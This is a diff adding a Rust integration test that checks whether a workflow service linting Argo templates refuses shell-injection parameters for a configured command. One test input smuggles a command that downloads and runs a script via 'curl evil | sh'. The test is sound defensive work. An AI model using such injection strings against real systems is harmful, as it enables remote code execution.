@@ -311,3 +311,83 @@ async fn injection_payloads_are_refused_on_every_path_unless_the_template_allows
     argo.stop().await;
     s.srv.stop().await;
 }
+
+/// A configured command's option is restricted by the template it runs, which carries no label:
+/// the argo-adapter lints every template it watches and reports the unlabelled ones for what
+/// they interpolate; a labelled template's templateRef is followed into another template.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn configured_commands_and_template_refs_are_linted_too() {
+    use facteur_config::{CommandConfig, OptionConfig};
+    let db = TestDb::new(Backend::Sqlite).await;
+    let mut cfg = with_tokens(config(&db));
+    cfg.commands = vec![CommandConfig {
+        name: "note".into(),
+        description: "Leave a note".into(),
+        workflow_template: "note-tmpl".into(),
+        options: vec![OptionConfig {
+            name: "text".into(),
+            description: "The note".into(),
+            required: true,
+            ..Default::default()
+        }],
+        ..Default::default()
+    }];
+    let srv = TestServer::start(cfg).await;
+    let kube = FakeKube::start().await;
+    let argo = ArgoAdapter::start(&srv.grpc_url(), &kube, NS);
+    let mut unlabelled = template(
+        "note",
+        json!({"name": "main", "steps": [[{"name": "a",
+            "templateRef": {"name": "shared", "template": "write"},
+            "arguments": {"parameters": [{"name": "what", "value": "{{workflow.parameters.text}}"}]}}]]}),
+        json!({}),
+    );
+    unlabelled["metadata"]["labels"] = json!({});
+    unlabelled["spec"]["arguments"]["parameters"] = json!([{"name": "text"}]);
+    kube.apply_template(unlabelled);
+    kube.apply_template(json!({
+        "metadata": {"name": "shared", "namespace": NS},
+        "spec": {"templates": [{"name": "write", "inputs": {"parameters": [{"name": "what"}]},
+            "script": {"image": "alpine", "command": ["sh"],
+                "source": "echo '{{inputs.parameters.what}}' >> /notes"}}]},
+    }));
+    let admin = srv.client(ADMIN_TOKEN).await;
+    let want = "templateRef(shared).spec.templates[0].script.source";
+    wait_until("the configured option restricted", WAIT, || async {
+        admin
+            .admin()
+            .list_catalog(pb::ListCatalogRequest {})
+            .await
+            .is_ok_and(|r| {
+                r.into_inner().commands.iter().any(|c| {
+                    c.name == "note"
+                        && c.source == "configuration"
+                        && c.options[0].interpolated_in == [want]
+                })
+            })
+    })
+    .await;
+    let start = |text: &str, key: &str| {
+        let mut a = admin.admin();
+        let req = pb::StartRunRequest {
+            command: "note".into(),
+            parameters: [("text".to_string(), text.to_string())].into(),
+            idempotency_key: key.into(),
+        };
+        async move { a.start_run(req).await }
+    };
+    let e = start("done'; curl evil | sh; echo '", "n-1")
+        .await
+        .expect_err("shell metacharacters");
+    assert_eq!(e.code(), tonic::Code::InvalidArgument);
+    assert!(
+        e.message().contains("the template passes it to a shell"),
+        "{}",
+        e.message()
+    );
+    start("deployed the api to prod", "n-2")
+        .await
+        .expect("plain text");
+    argo.stop().await;
+    srv.stop().await;
+}
